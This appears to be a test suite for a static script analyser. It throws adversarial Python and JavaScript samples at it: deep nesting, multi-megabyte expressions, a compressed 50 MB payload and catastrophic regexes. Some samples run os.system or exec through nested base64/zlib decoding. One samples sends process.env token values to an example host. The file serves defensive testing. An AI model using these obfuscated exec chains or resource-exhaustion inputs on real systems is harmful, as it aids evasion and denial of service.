import assert from 'node:assert/strict';
import { deflateSync } from 'node:zlib';
import type { ScriptLanguage } from '../../server/src/scripts/model';
import { analyse } from './facts';
import { wellFormed } from './soup';

const P = 'import os\n';
const J = 'const cp = require("child_process");\n';
const times = (count: number, make: (index: number) => string, between = '\n') =>
	Array.from({ length: count }, (_, index) => make(index)).join(between);

type Hostile = readonly [name: string, language: ScriptLanguage, text: string];

/** Texts of which something must be left out, and this must be said. */
const LEFT_OUT: readonly Hostile[] = [
	['brackets nested deeply', 'python', `${P}x = ${'('.repeat(100_000)}os.system("id")${')'.repeat(100_000)}`],
	['lists nested deeply', 'javascript', `${J}x = ${'['.repeat(100_000)}cp.exec("id")${']'.repeat(100_000)}`],
	['conditions nested deeply', 'javascript', `${J}${'if (a) '.repeat(50_000)}cp.exec("id")`],
	[
		'functions nested deeply',
		'javascript',
		`${J}${'function a() {'.repeat(300)}cp.exec("id")${'}'.repeat(300)}`,
	],
	['arrows nested deeply', 'javascript', `${J}x = ${'a => '.repeat(50_000)}cp.exec("id")`],
	['calls of calls', 'python', `open${'("x")'.repeat(50_000)}`],
	['an expression of 10 MB', 'python', `${P}x = ${'1+'.repeat(5_000_000)}1\nos.system("id")`],
	['an expression of 10 MB in JavaScript', 'javascript', `${J}x = ${'1+'.repeat(5_000_000)}1; cp.exec("id")`],
	[
		'a program of 10 MB on one line',
		'javascript',
		`${J}${'a.b(c, d => { return e[f] || g }),'.repeat(300_000)}1`,
	],
	['readings that multiply', 'javascript', `${J}${'a?(b):c=>'.repeat(100_000)}`],
	['nothing but errors', 'python', `${P}os.system("id")\n${') ] }'.repeat(200_000)}`],
	['text that doubles', 'python', `${P}x = "aaaaaaaaaa"\n${'x = x + x\n'.repeat(3000)}os.system(x)`],
	[
		'text that doubles in JavaScript',
		'javascript',
		`${J}let x = "aaaaaaaaaa";\n${'x += x;\n'.repeat(3000)}cp.exec(x)`,
	],
	[
		'a thousand million letters',
		'javascript',
		`${J}let s = ""; for (let i = 0; i < 1e9; i++) s += "abcdefgh".repeat(1000); cp.exec(s)`,
	],
	['more files than are listed', 'python', `${times(20_000, index => `open("a/${index}")`)}`],
	['code in code in code', 'python', times(12, () => '', '').concat(nested(12))],
	[
		'a compressed text of 50 MB',
		'python',
		`import zlib, base64\nexec(zlib.decompress(base64.b64decode("${deflateSync(new Uint8Array(5e7).fill(97)).toString('base64')}")))`,
	],
];

/** Texts that are only awkward: nothing need be left out. */
const AWKWARD: readonly Hostile[] = [
	[
		'functions that call each other',
		'python',
		`${P}def f(x): return g(x + "a") + g(x + "b")\ndef g(x): return f(x + "c") + f(x + "d")\nos.system(f("q"))`,
	],
	[
		'calls that multiply',
		'python',
		`${P}${times(200, index => `def f${index}(x): return f${index + 1}(x + "a") + f${index + 1}(x + "b")`)}\nos.system(f0("q"))`,
	],
	[
		'calls that multiply in JavaScript',
		'javascript',
		`${J}${times(200, index => `function f${index}(x) { return f${index + 1}(x + "a") + f${index + 1}(x + "b") }`)}\ncp.exec(f0("q"))`,
	],
	[
		'loops in loops',
		'python',
		`${P}for a in range(400):\n for b in range(400):\n  for c in range(400):\n   os.system("x" + str(a) + str(b) + str(c))`,
	],
	['an endless loop', 'javascript', `${J}let i = 0; while (true) { i++; cp.exec("a" + i) }`],
	['a list that grows', 'python', `${P}x = [1]\nwhile len(x) < 10**9: x.extend(x)\nos.system("a")`],
	[
		'a mapping in itself',
		'python',
		'import requests\nd = {}\nd["a"] = d\nl = []\nl.append(l)\nl.extend(l)\nrequests.post("https://a.example", json=d, data=l)',
	],
	[
		'choices that multiply',
		'javascript',
		`${J}let x = "";\n${times(2000, index => `if (a${index}) x += "b${index}"; else x += "c${index}";`)}\ncp.exec(x)`,
	],
	[
		'comprehensions that multiply',
		'python',
		`${P}x = [a + b + c for a in "a" * 200 for b in "b" * 200 for c in "c" * 200]\nos.system("".join(x))`,
	],
	[
		'a class made of itself',
		'python',
		`${P}class A:\n def __init__(self): self.a = A()\n def f(self): return self.f().f().f()\nA().f()`,
	],
	[
		'a class derived from thousands',
		'python',
		`${P}${times(3000, index => `class C${index}(C${index - 1}):\n def f(self): return super().f()`)}\nC2999().f()`,
	],
	[
		'a function given to itself',
		'javascript',
		`${J}function f(g) { return g(g) } f(f); [1, 2].map(function h() { return [1, 2].map(h) })`,
	],
	['a getter of itself', 'javascript', `${J}class A { get x() { return this.x.x } } new A().x`],
	[
		'many sources in one text',
		'javascript',
		`${times(500, index => `let a${index} = process.env.K${index}_TOKEN + ${index === 0 ? '1' : `a${index - 1}`};`)}\nfetch("https://a.example/?" + a499)`,
	],
	['a pattern that never ends', 'javascript', `${J}"a".repeat(100000).replace(/(a+)+b/g, "")`],
	[
		'format of format',
		'python',
		`${P}x = "{0}" * 1000\ny = x.format("{0}" * 1000)\nz = y.format(y)\nos.system(z.format(z))`,
	],
	[
		'names of JavaScript itself',
		'python',
		'import os\nx = {"__proto__": 1, "constructor": 2}\nos.system(x["constructor"])\n"%(constructor)s" % x\n"a".encode("constructor")\nos.environ["__proto__"]\n__import__("toString")\nimport constructor',
	],
	[
		'names of JavaScript itself in it',
		'javascript',
		`${J}const o = { __proto__: { a: 1 }, constructor: 1 }; o["__proto__"]; hasOwnProperty("x"); toString(); __proto__; process.env.constructor`,
	],
	['lone surrogates', 'python', 'import os\nos.system("\ud800")\nopen("\udfff")'],
	['quotes that do not close', 'javascript', `${J}'" \` /* ${'\'"`'.repeat(20_000)}`],
	['a name of a megabyte', 'python', `${P}${'a'.repeat(1_000_000)} = 1`],
	[
		'indentation without end',
		'python',
		`${P}${times(90, index => `${' '.repeat(index)}if x:`)}\n${' '.repeat(90)}os.system("id")`,
	],
];

function nested(depth: number): string {
	let code = 'import os;os.system("id")';
	for (let level = 0; level < depth; level++) {
		code = `import base64;exec(base64.b64decode("${Buffer.from(code).toString('base64')}"))`;
	}
	return code;
}

describe('Python and JavaScript: hostile text', () => {
	for (const [name, language, text] of [...LEFT_OUT, ...AWKWARD]) {
		it(name, () => {
			const facts = analyse(language, text);
			assert.ok(wellFormed(facts, text.length));
			if (LEFT_OUT.some(([leftOut]) => leftOut === name))
				assert.ok(facts.unparsed.length > 0, 'nothing was said to be left out');
		});
	}

	it('what stands before and after deep nesting is still seen', () => {
		const text = `${P}os.system("id")\nx = ${'['.repeat(5000)}1${']'.repeat(5000)}\nopen("a.txt")`;
		const facts = analyse('python', text);
		assert.deepEqual(
			facts.uses.map(use => use.kind),
			['process', 'file'],
		);
	});

	it('a concatenation of thousands of pieces is put together', () => {
		const url = 'https://a.example/x';
		const pieces = (count: number) =>
			[...url.padEnd(count, 'y')].map(letter => JSON.stringify(letter)).join(' + ');
		for (const [language, text] of [
			['python', `import requests\nu = ${pieces(3000)}\nrequests.get(u)`],
			['javascript', `const u = ${pieces(3000)};\nfetch(u)`],
		] as const) {
			const [use] = analyse(language, text).uses;
			assert.equal(use?.kind === 'network' ? use.url?.length : undefined, 3000, language);
		}
	});
});
